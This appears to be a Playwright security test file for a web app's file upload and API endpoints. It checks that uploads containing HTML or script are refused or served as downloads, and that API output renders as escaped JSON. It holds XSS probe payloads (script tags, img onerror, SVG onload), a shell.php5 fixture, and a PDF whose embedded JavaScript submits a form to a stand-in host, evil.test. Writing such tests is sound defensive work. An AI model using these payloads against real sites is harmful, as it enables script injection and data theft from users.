import type { Page } from '@playwright/test';
import { type Calls } from '../fixtures/calls.ts';
import { waitUntilQuiet } from '../fixtures/session.ts';
import { expect, test } from '../fixtures/test.ts';

const SCRIPT_HTML = '<script>window.ran = true; alert(1)</script><img src=x onerror="window.ran = true; alert(2)">';
const ACTIVE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran = true; alert(3)"><script>alert(4)</script></svg>`;
const HTML_PAGE = `<!doctype html><title>a page</title><b data-hostile>bold</b>${SCRIPT_HTML}`;
const ACTIVE_XHTML = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(5)</script></html>`;
/** A PDF that opens a message if the viewer runs its script. */
const ACTIVE_PDF = `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(6); this.submitForm('https://evil.test/');)>>>>endobj
2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj
trailer<</Root 1 0 R>>
`;
const PNG_SIGNATURE = '\u0089PNG\r\n\u001a\n';

/** Names, contents, and the types that the browser sends. */
const REFUSED_FILES: readonly (readonly [name: string, content: string, type: string])[] = [
  ['page.html', HTML_PAGE, 'text/html'],
  ['page.HTM', HTML_PAGE, 'application/octet-stream'],
  ['page.xhtml', ACTIVE_XHTML, 'application/xhtml+xml'],
  ['page.html.', HTML_PAGE, 'text/plain'],
  ['page.shtml', HTML_PAGE, 'text/plain'],
  ['page.mht', HTML_PAGE, 'multipart/related'],
  ['drawing.svg', ACTIVE_SVG, 'image/svg+xml'],
  ['drawing.svgz', ACTIVE_SVG, 'image/svg+xml'],
  ['script.js', 'alert(7)', 'text/javascript'],
  ['script.mjs', 'alert(7)', 'text/javascript'],
  ['style.xsl', ACTIVE_XHTML, 'text/xsl'],
  ['shell.php5', '<?php phpinfo();', 'text/plain'],
  ['page.pdf', HTML_PAGE, 'application/pdf'],
  ['picture.png', ACTIVE_SVG, 'image/png'],
];
const ACCEPTED_FILES: readonly (readonly [name: string, content: string, type: string])[] = [
  ['a page.txt', HTML_PAGE, 'text/html'],
  ['a drawing.txt', ACTIVE_SVG, 'image/svg+xml'],
  ['a page', HTML_PAGE, 'application/xhtml+xml'],
  ['a page.md', HTML_PAGE, 'text/html; charset=utf-7'],
  ['data.xml', ACTIVE_XHTML, 'text/xml'],
  ['data.rdf', ACTIVE_XHTML, 'application/xhtml+xml'],
  ['data.json', `{"a": "${HTML_PAGE}"}`, 'text/html'],
  ['both.pdf', `%PDF-1.7\n${HTML_PAGE}`, 'text/html'],
  ['active.pdf', ACTIVE_PDF, 'application/pdf'],
  ['both.png', PNG_SIGNATURE + HTML_PAGE, 'image/png'],
  ['script.txt', 'window.ran = true; alert(8)', 'text/javascript'],
  ['nothing said', HTML_PAGE, ''],
];

/** Uploads a file as browsers do. Returns its signed URL, or null if the server refused it. */
async function uploadFile(
  url: string,
  calls: Calls,
  gid: number,
  [name, content, type]: (typeof ACCEPTED_FILES)[number],
) {
  const { token } = await calls.person('submitter');
  const form = new FormData();
  form.append('gl', new Blob([Buffer.from(content, 'latin1')], { type }), name);
  const headers = { authorization: `Bearer ${token}` };
  const answer = await fetch(`${url}/api/files/${gid}`, { method: 'POST', headers, body: form });
  if (answer.status === 422) return null;
  expect(answer.status, name).toBe(201);
  const { data } = (await answer.json()) as { data: readonly { url: string }[] };
  return new URL(data[0]?.url ?? '', url).pathname;
}

/** Records browser dialogs, because each hostile script opens one. */
function recordDialogs(page: Page): string[] {
  const ran: string[] = [];
  page.on('dialog', (dialog) => {
    ran.push(dialog.message());
    void dialog.dismiss();
  });
  return ran;
}

// Covers V3.2.1, Fault.23, T10
test('files with HTML or scripts are refused or sent as downloads, and are never shown', async ({
  visit,
  calls,
  sample,
}) => {
  const gid = await calls.addEntry(0);
  for (const file of REFUSED_FILES) expect(await uploadFile(sample.url, calls, gid, file), file[0]).toBeNull();

  const page = await visit('submitter', { expected: /^Refused to execute script|ERR_BLOCKED|MIME type/ });
  const ran = recordDialogs(page);
  const addresses: string[] = [];
  for (const file of ACCEPTED_FILES) {
    const address = await uploadFile(sample.url, calls, gid, file);
    if (address === null) throw new Error(`${file[0]} was refused`);
    addresses.push(address);
    const [download] = await Promise.all([page.waitForEvent('download'), page.goto(address).catch(() => undefined)]);
    expect(download.suggestedFilename()).toBe(file[0]);
    expect(page.url(), file[0]).toBe('about:blank');
  }

  // A page of the application does not run such a file as a script either.
  await page.goto('/imprint');
  await waitUntilQuiet(page);
  for (const address of addresses) {
    const loaded = await page.evaluate(
      `new Promise((done) => {
        const script = document.createElement('script');
        script.onload = () => done('run');
        script.onerror = () => done('refused');
        script.src = ${JSON.stringify(address)};
        document.head.append(script);
      })`,
    );
    expect([loaded, address]).toEqual(['refused', address]);
  }
  expect(await page.evaluate('window.ran')).toBeUndefined();
  expect(ran).toEqual([]);
});

// Covers V3.2.1, Fault.37
test('an API response opened in the browser is shown as plain text', async ({ visit, calls }) => {
  const gid = await calls.addEntry(50);
  const { version } = await calls.ok('office', 'GET', `/guidelines/${gid}`);
  const title = `${SCRIPT_HTML}<b data-hostile>`;
  await calls.ok('office', 'PUT', `/guidelines/${gid}`, { name: title, version });
  await calls.ok('office', 'POST', `/comments/${gid}`, { comment: HTML_PAGE });
  const { token } = await calls.person('office');
  const page = await visit(null, { extraHTTPHeaders: { authorization: `Bearer ${token}` } });
  const ran = recordDialogs(page);
  const inAddress = encodeURIComponent(HTML_PAGE);
  for (const [path, held] of [
    [`/api/guidelines/${gid}`, title],
    [`/api/guidelines?query=${encodeURIComponent('img src')}`, title],
    [`/api/comments/${gid}`, 'a page'],
    [`/api/logs?limit=5`, 'a page'],
    ['/api/branding', 'imprint'],
    ['/api/openapi.json', 'openapi'],
    [`/api/guidelines?sort=${inAddress}`, 'errors'],
    [`/api/guidelines/${inAddress}`, 'message'],
    [`/api/declarations/${inAddress}`, 'message'],
    [`/api/download/${inAddress}`, 'message'],
    [`/api/${inAddress}`, 'message'],
    [`/assets/${inAddress}`, 'message'],
    ['/.well-known/imprimatur.json', 'change_log_seals'],
    ['/healthz', 'ok'],
  ] as const) {
    await page.goto(path);
    expect([await page.evaluate('document.contentType'), path]).toEqual(['application/json', path]);
    expect(await page.locator('[data-hostile], script, img').count(), path).toBe(0);
    // The page shows the text as escaped JSON, so nothing became an element.
    const text = await page.locator('body').innerText();
    expect([text.includes(JSON.stringify(held).slice(1, -1)), path]).toEqual([true, path]);
  }
  expect(ran).toEqual([]);
});
